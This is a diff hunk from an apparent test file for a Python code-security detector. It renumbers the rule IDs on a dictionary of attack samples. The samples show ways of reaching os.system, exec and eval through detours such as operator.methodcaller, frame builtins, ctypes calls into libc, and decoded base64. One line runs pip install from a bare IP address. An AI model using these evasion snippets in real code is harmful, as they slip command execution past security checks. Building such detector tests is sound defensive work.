@@ -26,15 +26,15 @@ def model(body: str, *, head: str = "") -> str:
 
 ATTACKS: dict[str, tuple[str, str]] = {
     # a dangerous function reached by a detour
-    "methodcaller": ("import operator, os\noperator.methodcaller('system', 'id')(os)", "WGH-PY007"),
-    "attrgetter": ("import operator\noperator.attrgetter('system')(__import__('os'))('id')", "WGH-PY007"),
-    "frame-builtins": ("import sys\nsys._getframe().f_builtins['exec']('import os')", "WGH-PY007"),
-    "function-globals": ("(lambda: 0).__globals__['eval']('1')", "WGH-PY007"),
-    "getattribute-of-os": ("import os\nos.__getattribute__('system')('id')", "WGH-PY007"),
-    "globals-set": ("import os\nglobals()['f'] = os.system\nf('id')", "WGH-PY001"),
-    "ctypes-system": ("import ctypes\nctypes.CDLL(None).system(b'id')", "WGH-PY001"),
-    "ctypes-loaded": ("import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'id')", "WGH-PY001"),
-    "pip-from-an-address": ("import os\nos.system('pip install -i http://10.0.0.1:9/ x')", "WGH-PY001"),
+    "methodcaller": ("import operator, os\noperator.methodcaller('system', 'id')(os)", "WGH-PY008"),
+    "attrgetter": ("import operator\noperator.attrgetter('system')(__import__('os'))('id')", "WGH-PY008"),
+    "frame-builtins": ("import sys\nsys._getframe().f_builtins['exec']('import os')", "WGH-PY008"),
+    "function-globals": ("(lambda: 0).__globals__['eval']('1')", "WGH-PY008"),
+    "getattribute-of-os": ("import os\nos.__getattribute__('system')('id')", "WGH-PY008"),
+    "globals-set": ("import os\nglobals()['f'] = os.system\nf('id')", "WGH-PY003"),
+    "ctypes-system": ("import ctypes\nctypes.CDLL(None).system(b'id')", "WGH-PY003"),
+    "ctypes-loaded": ("import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'id')", "WGH-PY003"),
+    "pip-from-an-address": ("import os\nos.system('pip install -i http://10.0.0.1:9/ x')", "WGH-PY003"),
     # decoded text that is run
     "exec-base64": (f"import base64\nexec(base64.b64decode('{B64}'))", "WGH-PY002"),
     "exec-base64-from-import": (f"from base64 import b64decode as d\nexec(d(b'{B64}'))", "WGH-PY002"),
